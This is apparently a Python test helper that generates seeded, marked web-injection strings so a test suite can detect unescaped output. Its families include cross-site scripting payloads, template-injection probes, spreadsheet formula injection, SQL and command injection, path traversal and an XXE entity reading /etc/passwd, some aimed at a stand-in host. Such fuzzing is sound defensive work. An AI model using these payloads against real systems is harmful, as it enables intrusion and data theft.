"""Strings that would run if a page let them: made from one seed, each with a mark by which it is found again."""

import random
import re
from collections.abc import Iterator

TRAP = "trap.invalid"
"""A host that exists nowhere: whoever asks for it was told to by a string."""
CALL = "owned(1)"
"""What every string tries to call; the browser lends pages a function of that name."""

SCRIPTS = (
    "<script>{c}</script>", "<ScRiPt >{c}</sCrIpT>", "</script><script>{c}</script>", "<script src=//{t}/x.js></script>",
    "</textarea><script>{c}</script>", "</title><script>{c}</script>", "</style><script>{c}</script>",
    "</template><script>{c}</script>", "<script>/*</p>*/{c}//</script>", "<scr<script>ipt>{c}</scr</script>ipt>",
    "<script\n>{c}</script\n>", "<script\x00>{c}</script>", "<script type=module>{c}</script>", "</noscript><script>{c}</script>",
)  # fmt: skip
HANDLERS = (
    "<img src=x onerror={c}>", "<img src=x onerror='{c}'>", '<IMG SRC=x OnErRoR="{c}">', "<img/src=x/onerror={c}>",
    "<body onload={c}>", "<input autofocus onfocus={c}>", "<details open ontoggle={c}>x</details>", "<video src=x onerror={c}>",
    "<audio src=x onerror={c}>", "<select autofocus onfocus={c}>", "<marquee onstart={c}>", "<video><source onerror={c}>",
    "<iframe onload={c}>", "<object data=x onerror={c}>", "<style onload={c}></style>", "<link rel=stylesheet href=x onerror={c}>",
    "<div style=animation-name:x onanimationstart={c}>", "<a href=x autofocus tabindex=1 onfocus={c}>x</a>",
)  # fmt: skip
BREAKERS = (
    '" onfocus={c} autofocus x="', "' onfocus={c} autofocus x='", '"><img src=x onerror={c}>', "'><img src=x onerror={c}>",
    "` onfocus={c} autofocus ", '"/><svg onload={c}>', "--><img src=x onerror={c}>", "]]><img src=x onerror={c}>",
    "</option></select><img src=x onerror={c}>", '\\" onfocus={c} autofocus \\"', "x onmouseover={c} ", "</dd></dl><svg/onload={c}>",
)  # fmt: skip
ADDRESSES = (
    "javascript:{c}", "JaVaScRiPt:{c}", "java\tscript:{c}", "java\nscript:{c}", "\x01javascript:{c}", "&#106;avascript:{c}",
    "data:text/html,<script>{c}</script>", "data:text/html;base64,PHNjcmlwdD5vd25lZCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)",
    "<a href=javascript:{c}>x</a>", "<form action=javascript:{c}><button>x</button></form>", "<iframe src=javascript:{c}></iframe>",
    "<meta http-equiv=refresh content='0;url=//{t}/'>", "<base href=//{t}/>", "<iframe srcdoc='<script>parent.{c}</script>'>",
    "[x](javascript:{c})", "![x](//{t}/x.png)", "<embed src=//{t}/x>", "//{t}/x", 'https://{t}/"onclick="{c}',
)  # fmt: skip
DRAWINGS = (
    "<svg onload={c}>", "<svg><script>{c}</script></svg>", "<svg><animate onbegin={c} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{c}><text>x</text></a></svg>", "<svg><use href=//{t}/x#y /></svg>", "<svg><image href=//{t}/x.png />",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={c}&gt;">', "<math href=javascript:{c}>x</math>",
    "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>", "<svg><style>@import '//{t}/x.css';</style>",
    "<svg><set attributeName=onload to={c}>", '<noscript><p title="</noscript><img src=x onerror={c}>">',
)  # fmt: skip
TEMPLATES = (
    "{{{{ 7*7 }}}}", "{{% for x in [1] %}}owned{{% endfor %}}", "{{{{ self.__init__.__globals__ }}}}", "${{{c}}}", "#{{7*7}}", "<%= 7*7 %>",
    "{{{{constructor.constructor('{c}')()}}}}", "{{# x #}}", "{{% include '/etc/passwd' %}}", "{{0.__class__}}", "%s%n%x", "{{{{''|safe}}}}", "{{{{ '<script>{c}</script>'|safe }}}}",
)  # fmt: skip
SHEETS = (
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://{t}/","x")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    '=1+1";=1+1', "|calc", "%0A=1+1", "\ufeff=1+1", "\u200b=1+1", "\uff1d1+1", "\uff0b1+1", "\uff20SUM(1)", '=IMPORTXML("//{t}/","x")', '"=1+1', ",=1+1",
)  # fmt: skip
QUERIES = (
    "'; DROP TABLE people; --", "' OR '1'='1", '" OR 1=1 --', "1; SELECT pg_sleep(5)", "Robert'); DROP TABLE posts;--", "%' --", "\\'; --", "*)(uid=*))(|(uid=*",
    "../../../../etc/passwd", "..\\..\\x", "$(touch /tmp/owned)", "`id`", "; id", "| id", "\r\nSet-Cookie: owned=1", "%0d%0aX-Owned: 1",
)  # fmt: skip
SIGNS = (
    "\u202e<tpircs>\u202c", "\u2066\u2067\u2069", "\u200b\u200c\u200d\ufeff", "\x00\x01\x02\x07\x08\x0b\x0c\x1b[2J", "\u2028{c}\u2029", "\x85\xa0",
    "\uff1cscript\uff1e{c}\uff1c/script\uff1e", "\u003cimg src=x onerror={c}\u003e", "‹script›{c}‹/script›", "Аdmin", "раураl", "İıſK", "ﬀ ﬁ", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "😀👩‍⚕️🏳️‍🌈🇻🇳", "\U0001f1e6" * 40, "\ud7ff\ue000\uffff", "Nguyễn Văn Ăn", "عمر שלום", "null", "undefined", "NaN", "[object Object]", "__proto__", "-0", "1e309",
)  # fmt: skip
LINES = (
    '\n\ndata: {{"html": "<img src=x onerror={c}>"}}\n\n', "\r\nevent: part\r\ndata: x", "\nid: 1\nretry: 1\n", '"}}\n\ndata: {{', "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    '"}},{{"html":"<svg onload={c}>', "</script><!--", "<!--", "-->", "<![CDATA[<script>{c}</script>]]>", "<?xml version='1.0'?><x/>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
)  # fmt: skip
ENCODED = (
    "&lt;script&gt;{c}&lt;/script&gt;", "&#60;script&#62;{c}&#60;/script&#62;", "&#x3c;img src=x onerror={c}&#x3e;", "%3Cscript%3E{c}%3C/script%3E", "&amp;lt;script&amp;gt;", "&quot; onfocus={c} autofocus &quot;",
    "\\x3cscript\\x3e{c}\\x3c/script\\x3e", "+ADw-script+AD4-{c}+ADw-/script+AD4-", "&ltscript&gt{c}", "&#0000060script>{c}</script>",
)  # fmt: skip
MARKDOWN = ("**x** _y_ `z`", "[x]: javascript:{c}", "<http://{t}/>", "| a | b |\n|---|---|", "# x\n\n* y", "```html\n<script>{c}</script>\n```")  # fmt: skip

FAMILIES = (
    SCRIPTS, HANDLERS, BREAKERS, ADDRESSES, DRAWINGS, TEMPLATES, SHEETS, QUERIES, SIGNS, LINES, ENCODED, MARKDOWN
)  # fmt: skip
BEGINNINGS = tuple(each.format(c=CALL, t=TRAP) for family in FAMILIES for each in family)
PADDINGS = ("", " ", "\t", "\n", "'", '"', ">", "\u202e", "\x00", "&", "\\", "é")
LONG = 20_000
EVERY_LONG = 500
"""One string of so many is very long: a few on every page."""
MARK = re.compile(r"z\d{6}q")


def strings(number: int, seed: int = 20_000) -> list[str]:
    """So many different strings; the same ones for the same seed."""
    chance = random.Random(seed)
    return [f"{body}{mark(place)}" for place, body in zip(range(number), _bodies(chance), strict=False)]


def mark(place: int) -> str:
    """What stands at the end of a string, and survives every escaping."""
    return f"z{place:06d}q"


def marks(text: str) -> set[str]:
    """Strings that are somewhere in a text."""
    return set(MARK.findall(text))


def _bodies(chance: random.Random) -> Iterator[str]:
    yield from BEGINNINGS
    place = 0
    while True:
        place += 1
        yield _mutant(chance) + ("A<b>" * (LONG // 4) if place % EVERY_LONG == 0 else "")


def _mutant(chance: random.Random) -> str:
    """Two or three beginnings, cut, joined, padded and with letters in other cases."""
    parts = chance.choices(BEGINNINGS, k=chance.choice((1, 1, 2, 2, 3)))
    joined = chance.choice(PADDINGS).join(parts)
    return chance.choice(PADDINGS) + chance.choice(CHANGES)(joined, chance) + chance.choice(PADDINGS)


def _cut(text: str, chance: random.Random) -> str:
    at = chance.randrange(len(text) + 1)
    return text[at:] + text[:at]


def _other_case(text: str, chance: random.Random) -> str:
    return "".join(
        letter.swapcase() if letter.isascii() and chance.random() < 0.2 else letter for letter in text
    ).replace(CALL.swapcase(), CALL)


def _encoded(text: str, chance: random.Random) -> str:
    return "".join(f"&#{ord(letter)};" if chance.random() < 0.1 else letter for letter in text)


def _nested(text: str, chance: random.Random) -> str:
    at = chance.randrange(len(text) + 1)
    return text[:at] + chance.choice(BEGINNINGS) + text[at:]


def _as_it_is(text: str, _: random.Random) -> str:
    return text


CHANGES = (_as_it_is, _as_it_is, _cut, _other_case, _encoded, _nested)
